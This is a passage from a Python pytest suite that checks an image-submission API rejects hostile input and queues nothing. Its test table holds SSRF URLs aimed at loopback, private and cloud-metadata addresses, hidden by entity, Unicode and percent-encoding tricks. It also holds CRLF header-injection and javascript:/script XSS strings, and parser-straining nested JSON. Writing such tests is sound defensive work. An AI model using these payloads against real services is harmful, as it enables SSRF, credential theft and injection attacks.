    image_case("https://cdn.example.com/a.jpg\r\nX-Injected: 1", "crlf"),
    image_case("https://cdn.example.com/\x00.jpg", "nul"),
    image_case("https://cdn.example.com/" + "a" * 3000, "3000-chars"),
    image_case("http:&#x2F;&#x2F;127.0.0.1&#x2F;", "escaped-loopback"),
    image_case("http:&amp;#x2F;&amp;#x2F;10.0.0.1&amp;#x2F;a.jpg", "double-escaped-private"),
    image_case("http:&#47;&#47;169.254.169.254&#47;", "decimal-escaped-metadata"),
    image_case("http://&#49;&#50;&#55;.0.0.1/a.jpg", "escaped-digits-loopback"),
    image_case("http:&#x2F;&#x2F;localhost&#x2F;", "escaped-localhost"),
    image_case("javascript&#x3A;alert(1)", "escaped-javascript"),
    image_case("&lt;script&gt;alert(1)&lt;/script&gt;", "escaped-html"),
    image_case("http://\u2460\u2461\u2466.0.0.1/a.jpg", "enclosed-digits-loopback"),
    image_case(f"http://{fullwidth('127')}.0.0.1/a.jpg", "fullwidth-loopback"),
    # Authorities that parsers split or decode differently.
    image_case("http://169.254.169.254\\x.evil.example/a.jpg", "backslash-ends-host-for-urllib3"),
    image_case("http://cdn.example.com\\@169.254.169.254/a.jpg", "backslash-before-userinfo"),
    image_case("http://127.0.0.1%2f.evil.example/a.jpg", "percent-slash-in-host"),
    image_case("http://%31%32%37.0.0.1/a.jpg", "percent-digits-in-host"),
    image_case("", "empty"),
    image_case("not a url", "not-a-url"),
    image_case(
        "https://cdn.example.com/\ud800.jpg",
        "lone-surrogate",
    ),
    # image_id of the wrong type
    image_case(42, "number"),
    image_case(True, "boolean"),
    image_case(None, "null"),
    image_case([PLAIN], "list"),
    image_case({"url": PLAIN}, "object"),
    # bodies
    body_case(b"", "empty"),
    body_case(b"   \n", "whitespace-only"),
    body_case(b"[]", "array"),
    body_case(json.dumps([{"image_id": PLAIN}]), "array-of-objects"),
    body_case(json.dumps(PLAIN), "string"),
    body_case(b"42", "number"),
    body_case(b"null", "null"),
    body_case(b"true", "boolean"),
    body_case(b"{not json", "malformed"),
    body_case(b"{'image_id': 'https://cdn.example.com/a.jpg'}", "single-quotes"),
    body_case(json.dumps({"image_id": PLAIN}) + " trailing", "trailing-garbage"),
    body_case(json.dumps({"image_id": PLAIN}) + json.dumps({"image_id": OTHER}), "two-documents"),
    body_case('{"image_id": ' + "[" * 100 + "]" * 100 + "}", "nested-100"),
    body_case(
        '{"image_id": ' + "[" * 20000 + "]" * 20000 + "}",
        "nested-20000",
    ),
    body_case(
        '{"a": ' * 8000 + "1" + "}" * 8000,
        "nested-objects-8000",
    ),
    body_case(b'{"image_id": 1e999999}', "huge-float"),
    body_case(b'{"image_id": -1e999999}', "huge-negative-float"),
    body_case(b'{"image_id": NaN}', "nan"),
    body_case(
        '{"image_id": ' + "9" * 5000 + "}",
        "5000-digit-integer",
    ),
    body_case(b'{"image_id": "https://cdn.example.com/a.jpg", "image_id": "http://127.0.0.1/"}', "duplicate-keys"),
    body_case(b'{"image_id": "https://cdn.example.com/\xff\xfe.jpg"}', "invalid-utf-8"),
    body_case(b'{"image_id": "http:\xc0\xaf\xc0\xaf127.0.0.1/"}', "overlong-utf-8"),
    body_case(b"\xef\xbb\xbf" + json.dumps({"image_id": "http://127.0.0.1/"}).encode(), "bom-loopback"),
    body_case(json.dumps({"image_id": "http://127.0.0.1/"}).encode("utf-16"), "utf-16-loopback"),
    body_case(json.dumps({"image_id": PLAIN, "callback_url": "http://127.0.0.1:6379/"}), "callback-loopback"),
    body_case(json.dumps({"image_id": PLAIN, "callback_url": "https://evil.example/cb"}), "callback-not-allowed"),
    body_case(json.dumps({"image_id": PLAIN, "callback_url": 42}), "callback-number"),
    body_case(json.dumps({"image_id": PLAIN, "callback_url": "javascript:alert(1)"}), "callback-javascript"),
]


@pytest.mark.parametrize(("body", "environ"), HOSTILE)
def test_hostile_input_is_a_4xx_problem_and_leaves_no_trace(app, client, redis, settings, body, environ) -> None:
    """Hostile headers, URLs and bodies get a 4xx problem; no record is written and no job is queued."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    resp = client.post(SUBMIT, data=body, content_type="application/json", environ_base=environ)
    text = resp.get_data(as_text=True)
    assert 400 <= resp.status_code < 500, f"{resp.status_code}: {text[:300]}"
    problem = assert_problem(resp, resp.status_code)
    if environ.get("HTTP_X_REQUEST_ID") == "hostile-1":
        assert problem["request_id"] == "hostile-1"
    else:
        assert "request_id" not in problem
    assert "X-Injected" not in resp.headers
    assert records(redis) == []
    assert redis.zcard(ACTIVE_KEY) == 0
    assert queued(redis, settings) == 0


def test_the_hostile_table_is_large_enough() -> None:
    """At least 40 hostile inputs are checked."""
    assert len(HOSTILE) >= 40
